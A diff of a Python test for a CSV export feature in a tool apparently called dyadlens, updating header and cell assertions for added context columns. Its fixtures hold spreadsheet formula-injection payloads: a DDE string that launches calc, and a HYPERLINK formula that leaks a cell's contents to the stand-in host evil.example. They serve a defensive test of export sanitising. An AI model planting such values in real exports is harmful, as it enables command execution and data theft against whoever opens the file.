@@ -19,6 +19,8 @@ from dyadlens.exports.gdelt import write_gdelt
 from dyadlens.model import ActorRef, Mention, stable_id
 from dyadlens.resources import Resources
 from dyadlens.store import open_store
+from dyadlens.store.export import EVENT_CONTEXT_COLUMNS
+from dyadlens.store.schema import EXPORTABLE
 
 SENTENCE = "=cmd|' /C calc'!A0 Mallory attacked the Taliban in 2024."
 EVIL_NAME = '=HYPERLINK("http://evil.example/?leak="&A1,"click")'
@@ -113,9 +115,12 @@ def test_export_csv_leaves_ordinary_cells_and_numbers_bare(store_path: Path, tmp
     header, *lines = _export_csv(store_path, tmp_path, "events").splitlines()
     assert header.startswith("id,doc_id,seq,start,end,sentence_index,trigger_start,trigger_end,")
     assert ",entry,route,source_route,target_route,cue,confidence,source_sectors," in header
-    assert header.endswith(",place_start,place_end,place_rule,coder,correction,standing,cluster")
+    assert header.endswith(",place_start,place_end,place_rule,coder,correction,standing,cluster,"
+                           + ",".join(EVENT_CONTEXT_COLUMNS))
+    # the stored columns (the context after them quotes the hostile evidence sentence, as it must):
     # entry test, no routes, no cue, confidence 0.9; no sectors and no place (11 empty cells); the rules
     # coded it, no correction touched it, it is an act and the store gave it its event (a hex id)
+    stored = [",".join(cells[:len(EXPORTABLE["events"].c)]) for cells in csv.reader(lines)]
     act = re.compile(",test,,,,,0\\.9" + "," * 11 + ",rules,,False,[0-9a-f]{20}$")
-    assert len(lines) == 9 and all(act.search(line) for line in lines)
-    assert all('"' not in line and "'" not in line for line in lines)
+    assert len(lines) == 9 and all(act.search(cells) for cells in stored)
+    assert all(line.startswith(cells + ",") and "'" not in cells for line, cells in zip(lines, stored, strict=True))
